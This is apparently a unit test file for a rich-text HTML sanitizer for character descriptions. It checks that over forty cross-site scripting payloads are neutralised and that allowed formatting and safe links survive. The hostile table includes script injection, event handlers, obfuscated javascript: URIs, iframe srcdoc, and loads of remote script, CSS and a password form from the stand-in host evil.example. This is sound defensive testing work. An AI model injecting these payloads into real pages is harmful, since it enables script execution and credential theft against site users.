import { hasVisibleText, sanitizeRichText } from './sanitize-html';

/** Hostile descriptions a writer's browser must never execute when the character card renders them. */
const hostile: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1);">',
  '<img src="x" /onerror="alert(1)">',
  '<<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/steal">x</a>',
  '<a href="https://ok.example/" onclick="alert(1)" onmouseover="alert(2)">x</a>',
  '<a href="https://ok.example/" target="_blank" rel="opener">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>@import "https://evil.example/x.css"; p { color: red }</style>',
  '<object data="movie.swf"><param name="allowScriptAccess" value="always"></object>',
  '<embed src="movie.swf">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
  '<p onmouseover="alert(1)">hi</p>',
  '<body onload=alert(1)>',
  '<div onpointerenter="alert(1)"><p>x</p></div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<base href="javascript:/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<template><script>alert(1)</script></template>',
  '<p>one</p><!-- <script>alert(1)</script> -->',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<b style="x" onclick="alert(1)">bold</b>',
];

describe('sanitizeRichText', () => {
  it('has a table of at least 30 hostile inputs', () => {
    expect(hostile.length).toBeGreaterThanOrEqual(30);
  });

  it.each(hostile)('neutralises %j', (input) => {
    const output = sanitizeRichText(input);
    expect(output).not.toMatch(/<script/i);
    expect(output).not.toMatch(/on\w+\s*=/i);
    expect(output).not.toMatch(/javascript:/i);
    expect(output).not.toMatch(/vbscript:|data:/i);
    expect(output).not.toMatch(/<iframe|<svg|<math|<object|<embed|<form|<input|<img|<style|<link|<meta|<base/i);
    expect(output).not.toMatch(/style=|target=|srcdoc|formaction/i);
    // every surviving link is an absolute http(s)/mailto link with the forced rel
    for (const [tag] of output.matchAll(/<a\b[^>]*>/g)) {
      expect(tag).toMatch(/^<a (href="(https?:\/\/|mailto:)[^"]*" )?rel="noopener nofollow">$/);
    }
  });

  it.each([
    ['<p>Plain <strong>bold</strong>, <b>b</b>, <em>em</em>, <i>i</i>, <u>u</u>, <s>s</s>, <strike>x</strike></p>'],
    ['<p>line<br />break</p>'],
    ['<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol>'],
    ['<blockquote>Quoted</blockquote>'],
    ['<h1>One</h1><h2>Two</h2><h3>Three</h3><h4>Four</h4>'],
    ['<p>a &lt;script&gt; as text &amp; more</p>'],
  ])('keeps allowed formatting: %s', (html) => {
    expect(sanitizeRichText(html)).toBe(html);
  });

  it('keeps http(s) and mailto links, forcing rel="noopener nofollow" and dropping target', () => {
    expect(sanitizeRichText('<a href="https://wiki.example.org/Mara" target="_blank" rel="opener">Mara</a>')).toBe(
      '<a href="https://wiki.example.org/Mara" rel="noopener nofollow">Mara</a>',
    );
    expect(sanitizeRichText('<a href="http://example.org/">x</a>')).toBe(
      '<a href="http://example.org/" rel="noopener nofollow">x</a>',
    );
    expect(sanitizeRichText('<a href="mailto:me@example.org">me</a>')).toBe(
      '<a href="mailto:me@example.org" rel="noopener nofollow">me</a>',
    );
  });

  it('drops links that are relative or use another scheme but keeps their text', () => {
    expect(sanitizeRichText('<a href="/dashboard">home</a>')).toBe('<a rel="noopener nofollow">home</a>');
    expect(sanitizeRichText('<a href="javascript:alert(1)">click</a>')).toBe('<a rel="noopener nofollow">click</a>');
  });

  it('removes disallowed tags with their attributes, keeping ordinary text, and closes broken markup', () => {
    expect(sanitizeRichText('<div class="x"><span id="y">kept</span></div>')).toBe('kept');
    expect(sanitizeRichText('<h5>small</h5><table><tr><td>cell</td></tr></table>')).toBe('smallcell');
    expect(sanitizeRichText('<p>unclosed <b>bold')).toBe('<p>unclosed <b>bold</b></p>');
    expect(sanitizeRichText('<script>alert(1)</script><p>after</p>')).toBe('<p>after</p>');
    expect(sanitizeRichText('<svg><text>hidden</text></svg>after')).toBe('after');
  });
});

describe('hasVisibleText', () => {
  it.each([
    ['', false],
    ['<p></p>', false],
    ['<p><br /></p>', false],
    ['<p>&nbsp; </p>\n', false],
    ['<ul><li> </li></ul>', false],
    ['<p>\u200b\ufeff</p>', false],
    ['<p>x</p>', true],
    ['<a rel="noopener nofollow">link text</a>', true],
    ['&lt;', true],
  ])('%j → %j', (html, expected) => {
    expect(hasVisibleText(html)).toBe(expected);
  });
});
